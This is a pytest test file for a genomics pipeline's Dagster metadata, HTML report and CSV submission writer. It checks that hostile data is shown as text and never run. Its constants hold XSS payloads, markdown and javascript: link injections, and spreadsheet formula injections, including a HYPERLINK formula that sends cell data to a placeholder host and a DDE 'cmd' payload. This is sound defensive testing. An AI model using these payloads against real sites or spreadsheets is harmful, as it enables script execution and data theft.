"""What data say is shown as text: in Dagster's metadata, in the report (in a real browser) and to spreadsheets."""

from __future__ import annotations

import csv
from dataclasses import asdict, replace

import dagster as dg
import numpy as np
import polars as pl
import pytest

from glm_assets.defs.checks.submission import sequence_result
from glm_assets.defs.metadata import count_table, materialized
from glm_assets.evaluation.comparison import compare
from glm_assets.evaluation.report import ReportData, write_report
from glm_assets.evaluation.scores import SealedTest
from glm_assets.sources.vcf import parse_records
from glm_assets.storage.products import Manifest
from glm_assets.submission.sequences import read_test_sequences
from glm_assets.submission.write import write_submission
from glm_assets.variants.genes import gene_symbols
from glm_assets_tests.evaluation import comparisons
from glm_assets_tests.sources.files import HEADER, gzipped

HTML = (
    "<script>window.ran = 1</script>",
    '"><img src=x onerror="window.ran = 1">',
    "</style></title></svg><svg onload=window.ran=1>",
    "'-window.ran-'",
    "{{ 7 * 7 }}{% raw %}",
    "<a href='javascript:window.ran = 1'>x</a>",
)
MARKDOWN = (
    "a|b`c`",
    "[x](javascript:alert(1))",
    "![x](https://host/track.png)",
    "# big",
    "<b>raw</b>",
    "a\nb\n\n---",
)
FORMULAS = ('=HYPERLINK("http://host?"&A1,"x")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)")


def manifest(**facts) -> Manifest:
    return Manifest("a", None, "1", {}, {}, "1", "1", {}, facts, "2024-01-01T00:00:00+00:00", {})


@pytest.mark.parametrize("text", [*HTML, *MARKDOWN])
def test_facts_become_text_tables_or_json_and_never_markdown(tmp_path, text):
    """Dagster's page shows markdown as HTML, so nothing but our own figures may be one."""
    facts = {"plain": text, "listed": [text, text], "counted": {text: 3}, "nested": {text: {text: [text]}}}
    metadata = materialized(manifest(**facts), tmp_path, links={"run": f"javascript:alert('{text}')"}).metadata
    kinds = {
        name: dg.MetadataValue.text(value) if isinstance(value, str) else value for name, value in metadata.items()
    }
    assert [name for name, value in kinds.items() if isinstance(value, dg.MarkdownMetadataValue)] == []
    assert [name for name, value in kinds.items() if isinstance(value, dg.UrlMetadataValue)] == []
    assert kinds["plain"].value == text
    assert kinds["counted"].records[0].data == {"name": text, "count": 3}
    assert kinds["nested"].value == {text: {text: [text]}}


def test_a_link_to_a_page_is_one(tmp_path):
    metadata = materialized(manifest(), tmp_path, links={"run": "https://host/run"}).metadata
    assert metadata["run"] == dg.MetadataValue.url("https://host/run")


def test_a_counted_name_is_a_cell_of_its_own():
    table = count_table({"a|b`c`": 1, "<b>": 2})
    assert [record.data["name"] for record in table.records] == ["<b>", "a|b`c`"]


def hostile_genes(folder) -> list[str]:
    """Gene symbols that a VCF smuggles in through GENEINFO, read by the readers of ClinVar."""
    allowed = [text for text in (*HTML, *FORMULAS) if not set(text) & set(";|:\t\n")]
    lines = [f"1\t{at}\t{at}\tA\tC\t.\t.\tGENEINFO={text}:1;CLNDN={text}\n" for at, text in enumerate(allowed, 1)]
    (folder / "x.vcf.gz").write_bytes(gzipped(HEADER + "".join(lines).encode()))
    parse_records(folder / "x.vcf.gz", folder / "x.parquet")
    genes = pl.read_parquet(folder / "x.parquet").select(gene_symbols(pl.col("geneinfo")))["geneinfo"].to_list()
    assert genes == allowed
    return genes


@pytest.fixture
def page(tmp_path):
    """A report whose genes, consequences, scorers, facts and cautions are hostile."""
    genes = hostile_genes(tmp_path)
    test = comparisons.sealed_test(400, with_baselines=False)
    rows = pl.int_range(pl.len())
    variants = test.variants.with_columns(
        gene=rows.replace_strict(dict(enumerate(genes * 400)), return_dtype=pl.String),
        genes=rows.replace_strict(dict(enumerate(genes * 400)), return_dtype=pl.String),
        consequence=pl.when(rows % 2 == 0).then(pl.lit(HTML[0])).otherwise(pl.lit(HTML[1])),
    )
    scored = tuple(replace(one, name=f"{HTML[at % 6]}{one.name}") for at, one in enumerate(test.scored))
    sealed = SealedTest(variants, test.ladders, scored)
    data = ReportData(
        compare(sealed, resamples=20, seed=1, small_class=20),
        sealed,
        {HTML[0]: {HTML[1]: HTML[2], "run": (HTML[3], "javascript:window.ran=1")}},
        {HTML[4]: comparisons.history(3)},
        {HTML[2]: comparisons.SOUP},
        absent={HTML[0]: HTML[1]},
        cautions=list(HTML),
        title=HTML[0],
    )
    path = tmp_path / "report.html"
    write_report(path, data)
    return path


@pytest.mark.system
def test_a_browser_runs_nothing_of_the_data(browser, page):
    context = browser.new_context(offline=True)
    opened = context.new_page()
    requests, dialogs = [], []
    opened.on("request", lambda request: requests.append(request.url))
    opened.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    opened.goto(page.as_uri())
    for button in opened.locator("button").all()[:30]:
        if button.is_visible():
            button.click()
    for place in opened.locator("circle, path, tbody tr").all()[:20]:
        if place.is_visible():
            place.hover(force=True)
    assert opened.evaluate("window.ran") is None
    assert (requests, dialogs) == ([page.as_uri()], [])
    assert opened.locator("main img, main iframe, [onerror], [onload], a[href^=javascript]").count() == 0
    assert opened.locator("main script").count() == 0
    assert opened.title() == HTML[0]
    assert "49" not in opened.locator("h1").inner_text()
    text = opened.locator("body").inner_text()
    assert all(part in text for part in (HTML[0], HTML[1]))
    context.close()


def test_ids_come_back_to_the_letter_and_formulas_among_them_are_told(tmp_path):
    """The contest matches rows by ID, so an ID cannot be changed; whoever opens the file in a spreadsheet is warned."""
    ids = [*FORMULAS, " =1", *HTML, *(text for text in MARKDOWN if "\n" not in text), "plain_1", "a=b", "a-b"]
    with (tmp_path / "test.csv").open("w", newline="") as stream:
        csv.writer(stream).writerows([("ID", "seq"), *((name, "ACGT") for name in ids)])
    frame, counts = read_test_sequences(tmp_path / "test.csv", max_length=10)
    assert counts.formula_ids == len(FORMULAS) + 1
    vectors = np.tile(np.array([1, 0], np.float32), (len(ids), 1))
    write_submission(frame["ID"], vectors, tmp_path / "submission.csv")
    with (tmp_path / "submission.csv").open(newline="") as stream:
        assert [row["ID"] for row in csv.DictReader(stream)] == ids

    treated = {"formula_ids": asdict(counts)["formula_ids"]}
    answer = sequence_result(manifest(treated=treated))
    assert (answer.passed, answer.severity) == (False, dg.AssetCheckSeverity.WARN)


@pytest.mark.parametrize("letter", ["\t", "\r", "\n", "\x00", "\x1b"])
def test_ids_with_control_characters_are_refused(tmp_path, letter):
    from glm_assets.errors import SubmissionError

    (tmp_path / "test.csv").write_bytes(f'ID,seq\n"{letter}=1+1",ACGT\n'.encode())
    with pytest.raises(SubmissionError, match=r"control character|NUL") as caught:
        read_test_sequences(tmp_path / "test.csv", max_length=10)
    assert letter not in str(caught.value)
